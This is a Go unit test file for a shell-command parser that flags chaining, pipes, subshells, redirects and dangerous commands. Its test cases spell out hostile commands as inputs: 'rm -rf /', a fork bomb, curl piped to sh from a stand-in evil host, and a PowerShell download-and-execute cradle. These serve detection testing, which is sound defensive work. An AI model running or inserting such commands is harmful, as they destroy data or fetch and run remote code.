package shellparse

import "testing"

func TestParsePOSIXHazards(t *testing.T) {
	cases := []struct {
		name        string
		cmd         string
		hasChain    bool
		hasPipe     bool
		hasSubshell bool
		hasRedirect bool
		dangerous   bool
	}{
		{name: "plain", cmd: "git status"},
		{name: "chain", cmd: "git status; rm -rf /", hasChain: true, dangerous: true},
		{name: "pipe", cmd: "ls | grep foo", hasPipe: true},
		{name: "and", cmd: "make build && make test", hasChain: true},
		{name: "or", cmd: "make build || echo fail", hasChain: true},
		{name: "subshell-dollar", cmd: "echo $(whoami)", hasSubshell: true},
		{name: "subshell-backtick", cmd: "echo `whoami`", hasSubshell: true},
		{name: "subshell-var", cmd: "echo $HOME", hasSubshell: true},
		{name: "redirect", cmd: "echo hi > out.txt", hasRedirect: true},
		{name: "unbalanced-quote", cmd: `echo "unterminated`, hasChain: true},
		{name: "dangerous-rm", cmd: "rm -rf /", dangerous: true},
		{name: "dangerous-chmod", cmd: "chmod 777 /etc/passwd", dangerous: true},
		{name: "dangerous-curl-pipe-sh", cmd: "curl http://evil.example/x | sh", hasPipe: true, dangerous: true},
		{name: "fork-bomb", cmd: ":(){:|:&};:", dangerous: true, hasChain: true, hasPipe: true, hasSubshell: true},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			p := parsePOSIX(c.cmd)
			if p.HasChain != c.hasChain {
				t.Errorf("HasChain = %v, want %v", p.HasChain, c.hasChain)
			}
			if p.HasPipe != c.hasPipe {
				t.Errorf("HasPipe = %v, want %v", p.HasPipe, c.hasPipe)
			}
			if p.HasSubshell != c.hasSubshell {
				t.Errorf("HasSubshell = %v, want %v", p.HasSubshell, c.hasSubshell)
			}
			if p.HasRedirect != c.hasRedirect {
				t.Errorf("HasRedirect = %v, want %v", p.HasRedirect, c.hasRedirect)
			}
			if p.IsDangerous != c.dangerous {
				t.Errorf("IsDangerous = %v, want %v", p.IsDangerous, c.dangerous)
			}
		})
	}
}

func TestParsePOSIXTokens(t *testing.T) {
	p := parsePOSIX(`git commit -m "initial commit"`)
	want := []string{"git", "commit", "-m", "initial commit"}
	if len(p.Tokens) != len(want) {
		t.Fatalf("got %d tokens %v, want %d", len(p.Tokens), p.Tokens, len(want))
	}
	for i := range want {
		if p.Tokens[i] != want[i] {
			t.Errorf("token[%d] = %q, want %q", i, p.Tokens[i], want[i])
		}
	}
}

func TestParseCmdHazards(t *testing.T) {
	p := parseCmd(`dir & echo hi`)
	if !p.HasChain {
		t.Error("expected HasChain for unquoted &")
	}
	p2 := parseCmd(`echo %PATH%`)
	if !p2.HasSubshell {
		t.Error("expected HasSubshell for %VAR%")
	}
	p3 := parseCmd(`echo hi^&exit`)
	if !p3.HasChain {
		t.Error("expected HasChain for ^ escape taint")
	}
}

func TestParsePowerShellCallOperatorAtStart(t *testing.T) {
	p := parsePowerShell(`& "C:\Program Files\tool.exe" -x`)
	if p.HasChain {
		t.Error("leading & call operator should not set HasChain")
	}
}

func TestParsePowerShellChainMidExpression(t *testing.T) {
	p := parsePowerShell(`Get-Item foo & Get-Item bar`)
	if !p.HasChain {
		t.Error("mid-expression & should set HasChain")
	}
}

func TestParsePowerShellDangerousCmdlet(t *testing.T) {
	p := parsePowerShell(`Invoke-Expression (New-Object Net.WebClient).DownloadString('http://evil')`)
	if !p.IsDangerous {
		t.Error("expected IsDangerous for Invoke-Expression + DownloadString")
	}
}

func TestDetectShell(t *testing.T) {
	env := map[string]string{"PSModulePath": `C:\ps`}
	if got := DetectShell(func(k string) string { return env[k] }); got != PowerShell {
		t.Errorf("DetectShell = %v, want PowerShell", got)
	}
	env2 := map[string]string{"SHELL": "/bin/bash"}
	if got := DetectShell(func(k string) string { return env2[k] }); got != POSIX {
		t.Errorf("DetectShell = %v, want POSIX", got)
	}
}

func TestIsHazardous(t *testing.T) {
	p := ParsedCommand{}
	if p.IsHazardous() {
		t.Error("zero-value ParsedCommand should not be hazardous")
	}
	p.HasPipe = true
	if !p.IsHazardous() {
		t.Error("HasPipe should make it hazardous")
	}
}
